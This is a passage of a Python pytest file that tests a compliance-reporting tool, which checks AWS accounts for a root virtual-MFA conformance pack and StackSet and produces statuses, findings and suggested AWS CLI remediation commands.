def test_management_account_that_is_not_watched() -> None:
    row = judge(account=Account(MANAGEMENT, "Management", "Root"), pack=None, stack=None)
    assert row.status is Status.UNKNOWN
    assert "management account is not watched" in row.finding
    (advice,) = row.advice
    assert advice.commands == ("root-virtual-mfa deploy --management-account --region eu-central-1",)
    assert "root-virtual-mfa deploy --parameter ManagementAccountHasEvaluationRole=true" in advice.action


def test_management_account_needs_no_stack_of_the_stack_set() -> None:
    deployment = replace(DEPLOYMENT, management_account_has_role=True)
    row = judge(result(), account=Account(MANAGEMENT, "Management", "Root"), deployment=deployment, stack=None)
    assert (row.status, row.advice) == (Status.COMPLIANT, ())
    own = replace(DEPLOYMENT, account_id=MANAGEMENT)
    assert judge(result(), account=Account(MANAGEMENT, "Management", "Root"), deployment=own, stack=None).advice == ()


def test_stack_set_has_no_stack_in_the_account() -> None:
    row = judge(stack=None)
    assert row.finding == "The StackSet root-virtual-mfa-account has no stack in the account."
    (command,) = row.advice[0].commands
    assert command == (
        "aws cloudformation create-stack-instances --region eu-central-1 --stack-set-name root-virtual-mfa-account "
        "--call-as DELEGATED_ADMIN "
        f"--deployment-targets OrganizationalUnitIds=r-a1b2,Accounts={MEMBER},AccountFilterType=INTERSECTION "
        "--regions eu-central-1"
    )


def test_stack_set_failed() -> None:
    row = judge(stack=Arrival("FAILED", "The role is there already."), deployment=replace(DEPLOYMENT, account_id=MANAGEMENT))
    assert row.stack_set_status == "FAILED"
    assert "did not reach the account: FAILED, The role is there already." in row.finding
    assert [command.split()[2] for command in row.advice[0].commands] == ["create-stack-instances", "update-stack-instances"]
    assert not any("--call-as" in command for command in row.advice[0].commands)


def test_stack_set_is_inoperable() -> None:
    (command,) = judge(stack=Arrival("INOPERABLE", "x")).advice[0].commands
    assert command.startswith("aws cloudformation delete-stack-instances ")
    assert command.endswith(" --retain-stacks")


def test_pack_is_not_in_the_account() -> None:
    row = judge(pack=None)
    assert row.finding == "The conformance pack root-virtual-mfa is not in the account."
    (command,) = row.advice[0].commands
    assert command == (
        "aws configservice put-organization-conformance-pack --region eu-central-1 "
        "--organization-conformance-pack-name root-virtual-mfa --template-body file://conformance_packs/root-virtual-mfa.yaml "
        "--conformance-pack-input-parameters ParameterName=FunctionArn,ParameterValue=arn:f "
        f"ParameterName=NonVirtualMfa,ParameterValue=COMPLIANT --excluded-accounts {MANAGEMENT}"
    )


@pytest.mark.parametrize("remediation", ["Manual", "Automatic"])
def test_pack_with_a_remediation_keeps_it(remediation: str) -> None:
    row = judge(pack=None, deployment=replace(DEPLOYMENT, remediation=remediation))
    (command,) = row.advice[0].commands
    again = f"root-virtual-mfa deploy --parameter Remediation={remediation}"
    assert command == f"root-virtual-mfa deploy --parameter Remediation=Off; {again}"


@pytest.mark.parametrize("remediation", ["Default", "Off"])
def test_pack_without_a_remediation_is_put_by_its_file(remediation: str) -> None:
    row = judge(pack=None, deployment=replace(DEPLOYMENT, remediation=remediation))
    assert "--template-body file://conformance_packs/root-virtual-mfa.yaml " in row.advice[0].commands[0]


def test_pack_that_is_nowhere_is_deployed_anew() -> None:
    row = judge(pack=None, deployment=replace(DEPLOYMENT, pack_parameters=None))
    assert row.advice[0].commands == ("root-virtual-mfa deploy",)


def test_pack_failed_without_a_recorder() -> None:
    row = judge(pack=Arrival("CREATE_FAILED", "NoAvailableConfigurationRecorder: There is no recorder"))
    assert row.conformance_pack_status == "CREATE_FAILED"
    assert "CREATE_FAILED, NoAvailableConfigurationRecorder: There is no recorder." in row.finding
    assert "Turn the account's configuration recorder on in eu-central-1" in row.advice[0].action
    assert row.advice[0].commands == (commands.put_pack_again(DEPLOYMENT),)


REFUSED = Arrival("CREATE_FAILED", "InsufficientPermissionsException: The Lambda function lacks the permission.")
LIST_ALL = "root-virtual-mfa deploy --parameter InvokePermission=Accounts"


@pytest.mark.parametrize(
    ("permission", "listed", "pack", "command"),
    [
        pytest.param("Organization", False, REFUSED, LIST_ALL, id="AWS Config does not name the organization"),
        pytest.param("Organization", False, None, "", id="the pack is missing"),
        pytest.param("Organization", True, REFUSED, "", id="listed, so it is something else"),
        pytest.param("Accounts", False, REFUSED, "root-virtual-mfa deploy", id="joined after the deployment"),
        pytest.param("Accounts", False, None, "root-virtual-mfa deploy", id="has just joined"),
        pytest.param("Accounts", True, None, "", id="listed, and the pack is missing"),
        pytest.param("Any", False, REFUSED, "", id="any account may, so it is something else"),
    ],
)
def test_pack_that_lacks_the_permission_to_invoke(permission: str, listed: bool, pack: Arrival | None, command: str) -> None:  # noqa: FBT001 - a parameter of the test
    deployment = replace(DEPLOYMENT, invoke_permission=permission, listed=frozenset({MEMBER} if listed else ()))
    row = judge(pack=pack, deployment=deployment)
    assert row.status is Status.UNKNOWN
    assert row.advice[0].commands == (command or commands.put_pack_again(deployment),)


def test_pack_failed_for_another_reason() -> None:
    assert judge(pack=Arrival("UPDATE_FAILED", "Internal")).advice[0].action == "Fix the cause and deploy the pack again."


def test_what_is_on_its_way_is_waited_for() -> None:
    row = judge(pack=Arrival("CREATE_IN_PROGRESS"), stack=Arrival("RUNNING"))
    assert row.status is Status.UNKNOWN
    assert [advice.action for advice in row.advice] == ["Wait.", "Wait."]


def test_recent_result_counts_though_the_stack_set_did_not_arrive() -> None:
    row = judge(result(), stack=Arrival("FAILED", "x"))
    assert row.status is Status.COMPLIANT
    assert len(row.advice) == 1


def test_one_account_has_neither_pack_nor_stack_set() -> None:
    deployment = replace(DEPLOYMENT, organization_id="", management_account_id="", rule_parameters=NOT_APPLICABLE)
    account = Account(CENTRAL, "", "")
    (row,) = rows(Observed(deployment, NOW, [account], {CENTRAL: [result("NOT_APPLICABLE", rule=RULE_NAME)]}))
    assert (row.status, row.advice) == (Status.NOT_APPLICABLE, ())
    (row,) = rows(Observed(deployment, NOW, [account], {}))
    assert row.status is Status.UNKNOWN
    assert "aggregator" not in row.finding
    (row,) = rows(Observed(deployment, NOW, [account], {CENTRAL: [result()]}))
    assert row.status is Status.UNKNOWN, "the rule of a pack is somebody's"
    assert "somebody made a rule of this name" in row.finding


# --- All accounts ---


def test_what_fails_comes_first_and_accounts_keep_their_order() -> None:
    states = {"1": "COMPLIANT", "2": "NON_COMPLIANT", "3": "", "4": "COMPLIANT", "5": "NON_COMPLIANT"}
    results = {each: [result(compliance)] for each, compliance in states.items()}
    accounts = [Account(each, each, "Root") for each in states]
    packs, stacks = dict.fromkeys(states, replace(ARRIVED_PACK, compliance="")), dict.fromkeys(states, ARRIVED_STACK)
    excluded = replace(DEPLOYMENT, excluded=frozenset({"4"}))
    judged = rows(Observed(excluded, NOW, accounts, results, packs, stacks))
    assert [row.account.account_id for row in judged] == ["2", "5", "3", "1", "4"]


def test_totals_have_every_status() -> None:
    counts = totals([judge(result()), judge(result("NON_COMPLIANT")), judge(result())])
    assert counts == {**dict.fromkeys(Status, 0), Status.COMPLIANT: 2, Status.NON_COMPLIANT: 1}
    assert set(MEANINGS) == set(Status)
    assert {Status.NON_COMPLIANT, Status.UNKNOWN} == FAILURES


def test_notes_on_exclusions_that_do_not_fit_and_on_a_failed_stack() -> None:
    deployment = replace(DEPLOYMENT, stack_status="CREATE_FAILED", excluded=frozenset({"999999999999"}))
    sandbox = Exceptions({MEMBER: Exclusion("Sandbox.")})
    said = notes(Observed(deployment, NOW, [Account(MEMBER, "Shop", "Root")], {}, {}, {}, sandbox))
    assert [any(word in note for note in said) for word in ("CREATE_FAILED", "999999999999", MEMBER)] == [True] * 3
    assert notes(Observed(DEPLOYMENT, NOW, [], {}, {}, {})) == []


def test_notes_on_exceptions_that_do_not_fit_or_end_within_a_month() -> None:
    accounts = [Account(MEMBER, "Shop", "Root"), Account(CENTRAL, "Security", "Root")]
    ending, later = TODAY + timedelta(days=30), TODAY + timedelta(days=31)
    accepted = {
        "999999999999": Acceptance("r", "c", "o", later),
        MEMBER: Acceptance("r", "c", "security", ending),
        MANAGEMENT: Acceptance("r", "c", "o", YESTERDAY),
    }
    excepted = Exceptions({CENTRAL: Exclusion("r", "platform", TODAY)}, accepted)
    assert notes(Observed(EXCLUDED, NOW, accounts, {}, {}, {}, excepted)) == [
        f"excluded-accounts.yaml accepts that account {MANAGEMENT} fails, but the report has no such account.",
        f"excluded-accounts.yaml accepts that account {MEMBER} fails, but ExcludedAccounts names it: nothing evaluates it.",
        "excluded-accounts.yaml accepts that account 999999999999 fails, but the report has no such account.",
        f"The exclusion of account {CENTRAL} ends after 2026-03-01 (owner: platform).",
        f"The acceptance of account {MEMBER} ends after 2026-03-31 (owner: security).",
    ]


@pytest.mark.parametrize(
    ("age", "said"),
    [
        (timedelta(), "0 min"),
        (timedelta(minutes=59, seconds=59), "59 min"),
        (timedelta(hours=26, minutes=59), "26 h"),
        (timedelta(hours=71), "71 h"),
        (timedelta(days=3), "3 d"),
    ],
)
def test_ages(age: timedelta, said: str) -> None:
    assert duration(age) == said
